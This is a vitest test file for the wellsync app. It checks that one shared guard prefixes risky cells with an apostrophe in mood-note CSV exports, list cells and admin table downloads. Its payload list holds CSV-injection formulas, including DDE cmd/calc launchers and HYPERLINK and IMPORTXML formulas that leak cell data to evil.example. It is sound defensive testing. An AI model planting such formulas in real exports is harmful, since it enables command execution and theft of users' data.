// Issue 13, hole 5: a mood note `-2+3+cmd|' /C calc'!A0` went into mood_entries.csv as it was, because the export
// escaped "-" only before a letter, while the admin CSVs had a different guard. One guard now serves every CSV
// wellsync writes; each is attacked here with the OWASP payloads (owasp.org, "CSV Injection").
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { spreadsheetSafe } from '@/lib/csv/spreadsheet-safe';
import { csvRow, exportFileOf } from '@/lib/export/export-files';
import { tableToCsv } from '@/lib/admin/table-to-csv';

const OWASP_PAYLOADS = [
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '-1',
  '@A1',
  '=HYPERLINK("http://evil.example?leak="&A1,"Error: click here")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMAGE("http://evil.example/pixel.png")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '\t',
  '\r\n=1+1',
  '=1+1\n',
  '- a list item',
];

/** The cell as a spreadsheet would get it: through csv-stringify and back. */
const roundTrip = (cell: unknown) => (parse(stringify([[cell]])) as string[][])[0]![0];

describe('every CSV wellsync writes defuses formulas', () => {
  it.each(OWASP_PAYLOADS)('the shared guard prefixes %j with an apostrophe', (payload) => {
    expect(spreadsheetSafe(payload)).toBe(`'${payload}`);
  });

  it.each(OWASP_PAYLOADS)('a mood note %j is exported as text', (payload) => {
    const file = exportFileOf('mood');
    const row = csvRow(file, 'm-1', { score: 3, note: payload, emotions: [], activities: [] });
    const note = row[file.columns.findIndex((column) => column.name === 'note')];
    expect(roundTrip(note)).toBe(`'${payload}`);
  });

  it.each(OWASP_PAYLOADS)('a list cell starting with %j is exported as text', (payload) => {
    const file = exportFileOf('mood');
    const row = csvRow(file, 'm-1', { activities: [payload, 'walk'] });
    expect(row[file.columns.findIndex((column) => column.name === 'activities')]).toBe(`'${payload}; walk`);
  });

  it.each(OWASP_PAYLOADS)('an admin table cell %j is downloaded as text', (payload) => {
    const csv = tableToCsv({
      id: 't',
      title: 'T',
      columns: [{ key: 'code', label: 'Error code', kind: 'text' }],
      rows: [{ code: payload }],
    });
    const cell = (parse(csv) as string[][])[1]![0];
    expect(cell).toBe(`'${payload}`);
  });

  it('leaves ordinary text, numbers and empty cells alone', () => {
    for (const cell of ['hello', 'Café, "quotes"', '# Heading', ' =not first', '', '3-2'])
      expect(spreadsheetSafe(cell)).toBe(cell);
    for (const cell of [4, -3, 0, true, false, null]) expect(spreadsheetSafe(cell)).toBe(cell);
  });
});
